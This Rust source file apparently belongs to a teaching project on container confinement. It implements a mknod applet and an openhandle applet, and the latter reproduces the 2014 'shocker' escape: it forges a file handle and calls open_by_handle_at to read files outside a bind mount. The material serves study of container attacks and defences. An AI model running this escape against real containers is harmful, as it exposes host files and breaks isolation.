//! Applets that reach below the file tree — what chapter 8's attacks use, and what a container's
//! confinement must refuse:
//!
//! - `mknod NAME b|c MAJOR MINOR`: creates a device node. Creating one is allowed in a Docker
//!   container (`CAP_MKNOD`); *opening* it is what the cgroup's device allow-list decides.
//! - `openhandle DIR TYPE HEX NAME`: opens a directory by its file handle (type and bytes in hex,
//!   as `name_to_handle_at` gives them) on the file system that `DIR` lies on, then prints the
//!   file `NAME` in it — the 2014 "shocker" escape: a bind mount hands the container a file
//!   system, and `open_by_handle_at` reaches any directory of it, not just the part that was
//!   mounted (the original guessed handles: on ext4 a handle is just an inode number and a
//!   generation). It needs `CAP_DAC_READ_SEARCH`.

use std::ffi::CString;
use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use crate::error::{io_context, report, AppletError, Result};
use crate::sys;

/// `mknod NAME b|c MAJOR MINOR`.
pub fn mknod_main(args: &[String]) -> i32 {
    report("mknod", mknod(args))
}

fn mknod(args: &[String]) -> Result<i32> {
    let usage = || AppletError::Usage("mknod NAME b|c MAJOR MINOR".into());
    let [name, kind, major, minor] = args else {
        return Err(usage());
    };
    let kind = match kind.as_str() {
        "b" => libc::S_IFBLK,
        "c" | "u" => libc::S_IFCHR,
        _ => return Err(usage()),
    };
    let number = |s: &str| s.parse::<u32>().map_err(|_| usage());
    let dev = libc::makedev(number(major)?, number(minor)?);
    let path = sys::cstring(name).map_err(io_context(format!("can't create '{name}'")))?;
    // SAFETY: a valid C string and plain integers.
    sys::check(unsafe { libc::mknod(path.as_ptr(), kind | 0o660, dev) })
        .map_err(io_context(format!("can't create '{name}'")))?;
    Ok(0)
}

/// `struct file_handle` with room for the handles of common file systems.
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; 128],
}

/// `openhandle DIR TYPE HEX NAME`.
pub fn openhandle_main(args: &[String]) -> i32 {
    report("openhandle", openhandle(args))
}

fn openhandle(args: &[String]) -> Result<i32> {
    let usage = || AppletError::Usage("openhandle DIR TYPE HEX NAME".into());
    let [dir, handle_type, hex, name] = args else {
        return Err(usage());
    };
    let handle_type: i32 = handle_type.parse().map_err(|_| usage())?;
    let bytes = (0..hex.len())
        .step_by(2)
        .map(|i| {
            hex.get(i..i + 2)
                .and_then(|b| u8::from_str_radix(b, 16).ok())
        })
        .collect::<Option<Vec<u8>>>()
        .filter(|b| !b.is_empty() && b.len() <= 128)
        .ok_or_else(usage)?;
    let dir_c = sys::cstring(dir).map_err(io_context(format!("can't open '{dir}'")))?;
    // SAFETY: a valid C string; the descriptor is owned below.
    let mount_fd =
        sys::check(unsafe { libc::open(dir_c.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) })
            .map_err(io_context(format!("can't open '{dir}'")))?;
    // SAFETY: open returned a new descriptor that nothing else owns.
    let mount_fd = unsafe { OwnedFd::from_raw_fd(mount_fd) };
    // The forged handle of a directory the bind mount does not show.
    let mut handle = FileHandle {
        handle_bytes: bytes.len() as u32,
        handle_type,
        f_handle: [0; 128],
    };
    handle.f_handle[..bytes.len()].copy_from_slice(&bytes);
    // SAFETY: the handle is a valid struct file_handle of the declared size.
    let opened = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd.as_raw_fd(),
            &mut handle as *mut FileHandle,
            libc::O_RDONLY | libc::O_DIRECTORY,
        )
    };
    let opened = sys::check(opened as libc::c_int).map_err(io_context("open_by_handle_at"))?;
    // SAFETY: the syscall returned a new descriptor that nothing else owns.
    let opened = unsafe { OwnedFd::from_raw_fd(opened) };
    let name_c = CString::new(name.as_str()).map_err(|_| usage())?;
    // SAFETY: a valid directory descriptor and C string.
    let file =
        sys::check(unsafe { libc::openat(opened.as_raw_fd(), name_c.as_ptr(), libc::O_RDONLY) })
            .map_err(io_context(format!("can't open '{name}'")))?;
    // SAFETY: openat returned a new descriptor that nothing else owns.
    let mut file = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(file) });
    io::copy(&mut file, &mut io::stdout().lock())
        .map_err(io_context(format!("can't read '{name}'")))?;
    io::stdout().flush().map_err(io_context("write"))?;
    Ok(0)
}
